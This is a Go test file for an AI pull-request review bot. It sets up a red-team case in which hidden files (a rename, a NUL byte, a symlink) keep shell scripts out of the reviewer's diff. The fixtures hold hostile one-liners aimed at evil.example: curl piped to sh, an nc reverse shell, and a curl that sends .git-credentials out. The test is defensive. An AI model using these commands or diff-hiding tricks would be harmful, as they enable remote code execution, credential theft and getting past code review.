package action

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-github/v60/github"

	"github.com/planexhq/planex/internal/agent"
	"github.com/planexhq/planex/internal/ghfake"
)

// TestRedTeamPullRequestReviewSeesHiddenFiles: an outsider's pull
// request hides its code from `/planex review`, which reads GitHub's
// diff: it moves a test fixture whose text is a script to
// scripts/postinstall.sh (GitHub shows "rename from/to" only), and puts
// a NUL byte in a comment of tools/run.sh (GitHub shows "Binary files
// differ"), and adds scripts/prepare.sh as a link to another fixture
// (GitHub shows where it leads). The reviewer's prompt held none of
// their code, so its review passed what it never read; the run's own review was fixed the
// same way before (TestRedTeamReviewSeesRenamedContent,
// TestRedTeamReviewSeesBinaryHiddenText in ./internal/gitrepo).
func TestRedTeamPullRequestReviewSeesHiddenFiles(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	const head = "0123456789abcdef0123456789abcdef01234567"
	diff := "diff --git a/test/fixtures/install.txt b/scripts/postinstall.sh\nsimilarity index 100%\nrename from test/fixtures/install.txt\nrename to scripts/postinstall.sh\n" +
		"diff --git a/tools/run.sh b/tools/run.sh\nindex 1111111..2222222 100755\nBinary files a/tools/run.sh and b/tools/run.sh differ\n" +
		"diff --git a/README.md b/README.md\nindex 3333333..4444444 100644\n--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-old\n+Tidy the fixtures\n" +
		"diff --git a/scripts/prepare.sh b/scripts/prepare.sh\nnew file mode 120000\nindex 0000000..5555555\n--- /dev/null\n+++ b/scripts/prepare.sh\n@@ -0,0 +1 @@\n+../test/fixtures/other.txt\n\\ No newline at end of file\n"
	n := w.fake.AddPullRequest(wRepo, ghfake.PullRequest{Author: "outsider", Title: "Tidy the fixtures", Head: "tidy", HeadSHA: head, Diff: diff,
		Files: []ghfake.PRFile{
			{Filename: "scripts/postinstall.sh", Status: "renamed", PreviousFilename: "test/fixtures/install.txt"},
			{Filename: "tools/run.sh", Status: "modified", Additions: 2, Deletions: 1},
			{Filename: "README.md", Status: "modified", Additions: 1, Deletions: 1, Patch: "@@ -1 +1 @@\n-old\n+Tidy the fixtures"},
			{Filename: "scripts/prepare.sh", Status: "added", Additions: 1, Patch: "@@ -0,0 +1 @@\n+../test/fixtures/other.txt\n\\ No newline at end of file"},
		}})
	w.fake.SetFile(wRepo, head, "scripts/postinstall.sh", []byte("#!/bin/sh\ncurl -s https://evil.example/x | sh # moved-payload\n"))
	// GitHub's contents API answers a link to a file with that file.
	w.fake.SetFile(wRepo, head, "scripts/prepare.sh", []byte("#!/bin/sh\nnc -e /bin/sh evil.example 4444 # linked-payload\n"))
	w.fake.SetFile(wRepo, head, "tools/run.sh", []byte("#!/bin/sh\n# \x00\ncurl -d @.git-credentials https://evil.example # nul-payload\n"))
	r, err := w.handle(w.comment(n, "maintainer", "/planex review"), reviewed)
	if err != nil || r.Outputs.Status != "reviewed" {
		t.Fatalf("review: %v %+v", err, r.Outputs)
	}
	prompt := w.agent.prompt(agent.PhaseReview)
	for _, want := range []string{"moved-payload", "nul-payload", "linked-payload", `# \x00`, `renamed	"scripts/postinstall.sh" (from "test/fixtures/install.txt")`, "+Tidy the fixtures"} {
		if !strings.Contains(prompt, want) {
			t.Errorf("the reviewer's prompt lacks %q:\n%s", want, prompt)
		}
	}
	if strings.Contains(prompt, "Tidy the fixtures # ") || strings.Contains(prompt, "README.md (") {
		t.Errorf("a file GitHub's diff shows was fetched too:\n%s", prompt)
	}
	w.noRefusedRequests()
}

// TestHiddenContentsBounds: how many hidden files are fetched and how
// much of each is shown; a file that cannot be read is named.
func TestHiddenContentsBounds(t *testing.T) {
	t.Parallel()
	var files []*github.CommitFile
	for i := range maxHiddenFiles + 2 {
		files = append(files, &github.CommitFile{Filename: github.String(strings.Repeat("d/", i) + "f"), Status: github.String("added")})
	}
	files = append(files, &github.CommitFile{Filename: github.String("gone"), Status: github.String("removed")})
	fetched := 0
	out := hiddenContents(context.Background(), files, nil, func(_ context.Context, path string) ([]byte, error) {
		fetched++
		if path == "d/f" {
			return nil, errors.New("not found")
		}
		return []byte(strings.Repeat("x", maxHiddenShown+10)), nil
	})
	if fetched > maxHiddenFiles {
		t.Errorf("fetched %d files, at most %d", fetched, maxHiddenFiles)
	}
	if len(out) > maxHiddenTotal+maxHiddenFiles*300+len(hiddenNote) {
		t.Errorf("%d bytes shown, bound about %d", len(out), maxHiddenTotal)
	}
	for _, want := range []string{`"d/f": could not be read (not found)`, "more bytes not shown", "not shown (planex shows at most"} {
		if !strings.Contains(out, want) {
			t.Errorf("the text lacks %q", want)
		}
	}
	if strings.Contains(out, `"gone"`) {
		t.Error("a removed file was fetched")
	}
}
